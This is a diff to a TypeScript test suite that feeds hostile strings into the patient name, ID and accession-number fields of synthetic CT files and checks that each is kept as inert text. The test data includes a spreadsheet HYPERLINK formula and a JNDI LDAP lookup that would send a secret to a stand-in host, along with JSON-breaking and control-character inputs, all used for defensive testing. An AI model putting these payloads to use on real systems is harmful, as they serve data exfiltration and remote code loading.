@@ -45,12 +45,19 @@ const characterSets: readonly OfferedFile[] = [
     hostileCt({ patientName: latin1(`${secret}\xed\xa0\x80 `) }),
   ),
   stored('63', 'control characters in a short text are no failure', () =>
-    ctWith([element('00081030', 'LO', latin1(`a\0b\rc\nd\te\x1b\x7f${secret} `))]),
+    ctWith([element('00081030', 'LO', latin1(`a\0b\rc\nd\te\x1b\x7f${secret}STUDY `))]),
   ),
   stored('63', 'a character set of a thousand values is no failure', () =>
     hostileCt({ charset: 'ISO 2022 IR 87\\'.repeat(1000) }),
   ),
 ];
+
+/** With a secret of its own each: a name that stands elsewhere too is another law (G1). */
+const placesOfText = [
+  ['patientName', 'a name', secret],
+  ['patientId', 'an ID', `${secret}ID`],
+  ['accessionNumber', 'an accession number', `${secret}VISIT`],
+] as const;
 
 const names: readonly OfferedFile[] = [
   stored('64', 'a name of 10 kB is kept whole', () => hostileCt({ patientName: secret.repeat(850) })),
@@ -81,9 +88,11 @@ const names: readonly OfferedFile[] = [
     ['a spreadsheet formula', `=HYPERLINK("http://x/${secret}")`],
     ['JSON', `"},{"${secret}":"`],
     ['a format string', `%s%n%x$\{jndi:ldap://x/${secret}}`],
-  ].map(([what, text]) =>
-    stored('65', `${what} in a name and an ID is text, and stays where the name is`, () =>
-      hostileCt({ patientName: text ?? '', patientId: text ?? '', accessionNumber: text ?? '' }),
+  ].flatMap(([what, text = '']) =>
+    placesOfText.map(([attribute, place, word]) =>
+      stored('65', `${what} in ${place} is text, and stays there`, () =>
+        hostileCt({ [attribute]: text.replace(secret, word) }),
+      ),
     ),
   ),
 ];
